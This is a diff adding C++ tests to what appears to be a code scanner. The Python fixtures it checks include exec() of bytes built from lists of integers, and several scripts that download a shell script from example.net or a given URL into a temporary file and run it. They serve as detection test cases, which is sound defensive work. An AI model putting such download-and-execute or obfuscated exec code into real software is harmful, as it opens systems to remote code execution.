@@ -56,5 +56,65 @@ TEST(EleventhRoundClasses, RegistryRunKeysWrittenFromPythonPersist) {
   for (const auto& c : cases) check(c);
 }
 
+// Code run from bytes built out of numbers written in the program (bytes of
+// a list of ints, or one byte at a time in a loop) is a hidden payload, as
+// characters built with chr() already were; bytes from numbers that are
+// only sent or printed stay ordinary.
+TEST(EleventhRoundClasses, CodeBuiltFromNumberBytesIsObfuscated) {
+  const Case cases[] = {
+      {"exec of bytes(list of ints)", B,
+       "data = [105, 109, 112, 111, 114, 116, 32, 111, 115]\nexec(bytes(data))\n", "EXEC-DECODED-PAYLOAD"},
+      {"exec of bytes appended one at a time in a loop", B,
+       "data = [105, 109, 112, 111, 114, 116, 32, 111, 115]\ncode = b''\nfor d in data:\n"
+       "    code += bytes([d])\nexec(code)\n",
+       "EXEC-DECODED-PAYLOAD"},
+      {"a protocol header from numbers, sent", L,
+       "import socket\nHEADER = bytes([0x02, 0x00, 0x10])\ns = socket.create_connection(('localhost', 9000))\n"
+       "s.sendall(HEADER + b'ping')\nprint(s.recv(16))\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
+// mkstemp's descriptor is the open file and its name the path: a download
+// written through os.write, os.fdopen or open(name) and then run by name is
+// download-and-execute (it was a process run of an unknown file); the same
+// for a descriptor from os.open. A descriptor that is not a file (stdout, a
+// pipe) is no path, and a fixed script written to a temporary file and run
+// stays a process run.
+TEST(EleventhRoundClasses, DescriptorsAreTheFilesTheyOpened) {
+  const Case cases[] = {
+      {"download written with os.write to mkstemp's descriptor, run by name", B,
+       "import requests, subprocess, tempfile, os, sys\ndata = requests.get(sys.argv[1]).content\n"
+       "fd, path = tempfile.mkstemp(suffix='.sh')\nos.write(fd, data)\nos.close(fd)\nsubprocess.run(['bash', path])\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"download written through os.fdopen, run by name", B,
+       "import requests, subprocess, tempfile, os\ndata = requests.get('https://example.net/x.sh').content\n"
+       "fd, path = tempfile.mkstemp(suffix='.sh')\nwith os.fdopen(fd, 'wb') as f:\n    f.write(data)\n"
+       "subprocess.run(['bash', path])\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"download written to mkstemp's name with open()", B,
+       "import requests, subprocess, tempfile\ndata = requests.get('https://example.net/x.sh').content\n"
+       "fd, path = tempfile.mkstemp()\nwith open(path, 'wb') as f:\n    f.write(data)\nsubprocess.run(['sh', path])\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"download written to an os.open descriptor, run", B,
+       "import requests, subprocess, os\ndata = requests.get('https://example.net/x.sh').content\n"
+       "fd = os.open('run.sh', os.O_WRONLY | os.O_CREAT, 0o755)\nos.write(fd, data)\nos.close(fd)\n"
+       "subprocess.run(['./run.sh'])\n",
+       "REMOTE-CODE-EXECUTION"},
+      {"a fixed build script written to a temporary file and run", M,
+       "import tempfile, os, subprocess\nfd, path = tempfile.mkstemp(suffix='.sh')\n"
+       "os.write(fd, b'#!/bin/sh\\necho building\\nmake -j2\\n')\nos.close(fd)\n"
+       "subprocess.run(['sh', path], check=True)\nos.unlink(path)\n",
+       "RUNS-PROCESS"},
+      {"settings written through mkstemp and renamed; stdout and a pipe written", L,
+       "import tempfile, os, json\nfd, path = tempfile.mkstemp(suffix='.json')\nwith os.fdopen(fd, 'w') as f:\n"
+       "    json.dump({'a': 1}, f)\nos.replace(path, 'settings.json')\nos.write(1, b'hello')\n"
+       "r, w = os.pipe()\nos.write(w, b'data')\n",
+       nullptr},
+  };
+  for (const auto& c : cases) check(c);
+}
+
 }  // namespace
 }  // namespace mai::assess::test
